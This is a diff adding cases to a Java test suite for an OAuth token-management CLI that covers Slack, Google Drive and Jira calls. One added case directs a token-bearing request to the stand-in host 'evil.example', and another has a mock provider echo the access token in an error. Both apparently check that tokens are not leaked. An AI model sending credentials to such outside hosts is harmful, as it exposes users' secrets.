@@ -72,6 +72,23 @@ class OAuthSecretsTest {
             run("show", provider, "--user", "alice", "-o", "json");
         }
         run("refresh", "slack", "--user", "bob");
+        // the calls made with the tokens: happy, refused, failing, and a provider clock that says the token expired
+        run("api", "slack", "conversations.list", "--user", "alice", "--paginate");
+        run("api", "slack", "chat.postMessage", "-X", "POST", "-f", "channel=C0NOPE", "-f", "text=hi", "--user", "alice");
+        run("api", "slack", "https://evil.example/api/auth.test", "--user", "alice");
+        run("slack", "post", "--user", "alice", "--channel", "C0GENERAL", "--text", "R&D <ops>");
+        f.slack.api().dropNextAnswers(1);
+        run("slack", "post", "--user", "alice", "--channel", "C0GENERAL", "--text", "lost");
+        run("drive", "ls", "--user", "alice", "--name-contains", "O'Brien");
+        run("jira", "create", "--user", "alice", "--project", "NOPE", "--summary", "x");
+        run("jira", "create", "--user", "alice", "--project", "OPS", "--summary", "x", "--description", "y");
+        f.providerClock.advance(Duration.ofHours(2));
+        run("api", "google", "drive/v3/about", "-f", "fields=user", "--user", "alice");
+        run("verify", "--all", "-o", "json");
+        f.google.api().answerRaw(400, "application/json", ("{\"error\":\"echo " + f.google.latestAccessToken() + "\"}")
+                .getBytes(StandardCharsets.UTF_8));
+        run("api", "google", "drive/v3/files", "--user", "alice");
+        f.google.api().normal();
         run("refresh", "--all", "--expiring-within", "2h", "-o", "json");
         run("list", "-o", "json");
         run("providers", "-o", "json");
